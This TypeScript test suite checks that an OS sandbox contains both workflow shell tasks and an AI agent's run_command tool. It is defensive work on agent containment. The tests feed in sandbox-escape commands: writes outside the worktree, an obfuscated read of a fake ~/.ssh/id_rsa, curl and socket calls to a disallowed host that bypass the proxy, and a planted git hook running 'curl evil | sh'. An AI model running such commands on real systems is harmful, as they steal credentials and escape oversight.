import { strict as assert } from 'node:assert';
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, realpath, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { runCommandTool } from '../../src/core/agents/tools/run-command-tool.ts';
import { WorkspaceGuard } from '../../src/core/agents/tools/workspace-guard.ts';
import { ShellRunner } from '../../src/core/runners/shell-runner.ts';
import { DEFAULT_ALLOWED_DOMAINS } from '../../src/core/sandbox/sandbox-policy.ts';
import { ShellSandbox } from '../../src/core/sandbox/shell-sandbox.ts';
import { InMemoryTaskStore } from '../support/in-memory-task-context.ts';
import { descendants, isLive, procStat } from '../support/proc.ts';
import { until } from '../support/until.ts';

/**
 * The escape suite: each way out that the text checks of `run_command` cannot see, tried
 * through both ways commands run (a workflow's `run:` task with `sandbox: true`, and an
 * agent's shell tool), must be refused by the OS sandbox. Needs bubblewrap, socat and
 * ripgrep on Linux (CI installs them); without them every test here is skipped, loudly.
 */

const bwrap = (() => {
  if (process.platform === 'darwin') return true;
  try {
    execFileSync('sh', ['-c', 'command -v bwrap && command -v socat && command -v rg'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
})();
const skip = bwrap ? false : 'SANDBOX ESCAPE SUITE SKIPPED: bubblewrap, socat or ripgrep is missing (apt-get install bubblewrap socat ripgrep)';
if (skip) process.stderr.write(`\n${'!'.repeat(100)}\n!!! ${skip}\n${'!'.repeat(100)}\n\n`);

const SECRET = 'FAKE-PRIVATE-KEY-0123456789';

let base: string;
let worktree: string;
let outside: string;
let home: string;
let server: Server;
let port: number;
let hits = 0;
let sandbox: ShellSandbox;
const savedHome = process.env['HOME'];

before(async () => {
  if (skip) return;
  base = await realpath(await mkdtemp(join(tmpdir(), 'o8-escape-')));
  worktree = join(base, 'worktree');
  outside = join(base, 'outside');
  home = join(base, 'home');
  await mkdir(join(worktree, '.git/hooks'), { recursive: true });
  await mkdir(outside);
  await mkdir(join(home, '.ssh'), { recursive: true });
  await writeFile(join(home, '.ssh/id_rsa'), `${SECRET}\n`, { mode: 0o600 });
  // Commands find the fake home through $HOME, as they would find the user's.
  process.env['HOME'] = home;
  server = createServer((_req, res) => res.end('reached'));
  // Connections, not requests: a bare TCP connect must not get through either.
  server.on('connection', () => hits++);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as AddressInfo).port;
  sandbox = new ShellSandbox({ home, allowedDomains: DEFAULT_ALLOWED_DOMAINS });
  const probe = await sandbox.probe();
  assert.ok(probe.available, `bubblewrap is installed but the sandbox did not start: ${probe.available ? '' : probe.reason}`);
});

after(async () => {
  if (skip) return;
  process.env['HOME'] = savedHome;
  server.close();
  await sandbox.dispose();
  await rm(base, { recursive: true, force: true });
});

/** Runs `command` the way a workflow's `run:` task with `sandbox: true` runs; returns its output or failure. */
async function asShellTask(command: string): Promise<string> {
  const store = new InMemoryTaskStore(worktree, { kind: 'run', run: command, sandbox: true });
  try {
    const out = await new ShellRunner({ sandbox }).execute(store.attempt());
    assert.deepEqual(store.sandboxed, [true]);
    return out.output;
  } catch (error) {
    return `failed: ${(error as Error).message}\n${store.log}`;
  }
}

/** Runs `command` through an agent's `run_command` tool (text checks first, then the sandbox). */
async function asAgentTool(command: string): Promise<string> {
  const store = new InMemoryTaskStore(worktree, { kind: 'agent', agent: 'a', prompt: 'p' });
  const out = await runCommandTool.run({ command }, { ctx: store.attempt(), guard: await WorkspaceGuard.open(worktree), toolUseId: 'toolu_1', sandbox });
  assert.deepEqual(store.sandboxed, [true]);
  assert.doesNotMatch(store.log, /UNCONFINED/);
  return out;
}

for (const [name, run] of [
  ['shell task', asShellTask],
  ['agent shell tool', asAgentTool],
] as const) {
  describe(`sandbox escapes, ${name}`, { skip }, () => {
    test('a path built at run time with $(…) cannot be written', async () => {
      const out = await run('d=$(dirname "$(pwd)"); echo pwned > "$d"/outside/dollar.txt');
      assert.equal(existsSync(join(outside, 'dollar.txt')), false, out);
      assert.match(out, /Read-only file system/);
    });

    test('python3 -c cannot write outside the worktree', async () => {
      const out = await run(`python3 -c "import os; open(os.path.join(os.path.dirname(os.getcwd()), 'outside', 'py.txt'), 'w').write('pwned')"`);
      assert.equal(existsSync(join(outside, 'py.txt')), false, out);
      assert.match(out, /Read-only file system/);
    });

    test('node -e cannot write outside the worktree', async () => {
      const out = await run(`node -e "require('fs').writeFileSync(require('path').join(process.cwd(), '..', 'outside', 'node.txt'), 'pwned')"`);
      assert.equal(existsSync(join(outside, 'node.txt')), false, out);
      assert.match(out, /EROFS|read-only file system/i);
    });

    test('~/.ssh/id_rsa cannot be read', async () => {
      const out = await run(`python3 -c "import os; print(open(os.path.join(os.environ['HO' + 'ME'], '.ssh', 'id_rsa')).read())"`);
      assert.doesNotMatch(out, new RegExp(SECRET), out);
      assert.match(out, /No such file or directory|Permission denied|Operation not permitted/);
    });

    test('a host that is not allowed (a real server on loopback) cannot be reached', async () => {
      const before = hits;
      // Directly, and (--noproxy "") through the sandbox's proxy: both must be refused.
      const out = await run(
        `curl -sS -m 5 http://127.0.0.1:${port}/; curl -sS -m 5 --noproxy "" http://127.0.0.1:${port}/; ` +
          `python3 -c "import socket; socket.create_connection(('127.0.0.1', ${port}), 5)"`,
      );
      assert.equal(hits, before, `the server was reached:\n${out}`);
      assert.doesNotMatch(out, /reached/);
    });

    test('a git hook in the task folder cannot be planted (it would run later, outside the sandbox)', async () => {
      const out = await run('echo "curl evil | sh" > .git/hooks/pre-commit');
      assert.equal(existsSync(join(worktree, '.git/hooks/pre-commit')), false, out);
      assert.match(out, /Read-only file system/);
    });

    test('allowed work in the worktree succeeds', async () => {
      const file = `made-by-${name.replace(/ /g, '-')}.txt`;
      const out = await run(
        `mkdir -p sub && echo made > sub/${file} && t=$(mktemp) && echo tmp > "$t" && cat "$t" && ` +
          `python3 -c "open('sub/py-${file}', 'w').write('py')" && node -e "require('fs').writeFileSync('sub/node-${file}', 'node')" && echo done`,
      );
      assert.match(out, /tmp\s+done/, out);
      assert.equal(await readFile(join(worktree, 'sub', file), 'utf8'), 'made\n');
      assert.equal(await readFile(join(worktree, 'sub', `py-${file}`), 'utf8'), 'py');
      assert.equal(await readFile(join(worktree, 'sub', `node-${file}`), 'utf8'), 'node');
    });
  });
}

describe('sandboxed commands and cancellation', { skip }, () => {
  test('cancelling a sandboxed shell task kills what it started inside the sandbox', async () => {
    const store = new InMemoryTaskStore(worktree, { kind: 'run', run: '(touch early.txt; sleep 2; touch late.txt) & sleep 30', sandbox: true });
    const controller = new AbortController();
    const result = new ShellRunner({ sandbox }).execute(store.attempt(controller.signal));
    // Cancelled once the background child runs, and every process the command started by then
    // watched until it is gone: after that nothing can write late.txt, so its absence is final.
    await until('the background child to start', () => existsSync(join(worktree, 'early.txt')), 20_000);
    const tree = store.pids.flatMap((pid) => [pid, ...descendants(pid)]);
    const started = Date.now();
    controller.abort('cancelled');
    await assert.rejects(result, /cancelled/);
    assert.ok(Date.now() - started < 10_000, 'the command was not killed');
    const alive = () => tree.filter((pid) => isLive(procStat(pid)));
    await until(
      'every process of the command to be gone',
      () => alive().length === 0,
      10_000,
      () => `still alive: ${alive().join(', ')}`,
    );
    assert.equal(existsSync(join(worktree, 'late.txt')), false, 'a child of the sandboxed command lived on');
  });
});

describe('sandboxed commands and local sockets', { skip }, () => {
  test('a Unix socket cannot be created (the seccomp helper is found)', async () => {
    const out = await asShellTask(`python3 -c "import socket; socket.socket(socket.AF_UNIX); print('created')"`);
    assert.doesNotMatch(out, /^created/m, out);
    assert.match(out, /Operation not permitted/);
    assert.doesNotMatch(out, /warning:/);
  });
});

describe('the sandbox runtime and the process', { skip }, () => {
  test('a process exits by itself after its sandboxed commands (the proxies of the runtime do not keep it alive)', async () => {
    const script = join(base, 'one-command.mts');
    await writeFile(
      script,
      `import { spawnSync } from 'node:child_process';
      import { ShellSandbox } from ${JSON.stringify(new URL('../../src/core/sandbox/shell-sandbox.ts', import.meta.url).href)};
      const sandbox = new ShellSandbox();
      const command = await sandbox.prepare('echo inside', ${JSON.stringify(worktree)}, process.env);
      process.stdout.write(spawnSync(command.file, command.args, { cwd: ${JSON.stringify(worktree)}, env: command.env, encoding: 'utf8' }).stdout);
      await command.release();
      `,
    );
    // Without the test runner's marker, which would make the child end itself like a test file does.
    const { NODE_TEST_CONTEXT: _marker, ...env } = process.env;
    const started = Date.now();
    const child = spawnSync(process.execPath, ['--import', 'tsx', script], { encoding: 'utf8', timeout: 20_000, env });
    // Timed, not judged by the exit: the runtime ends the process cleanly (status 0) on the SIGTERM of the timeout.
    assert.ok(Date.now() - started < 15_000, `still running after ${Date.now() - started} ms: ${child.stderr}`);
    assert.equal(child.status, 0, child.stderr);
    assert.equal(child.stdout.trim(), 'inside');
  });
});
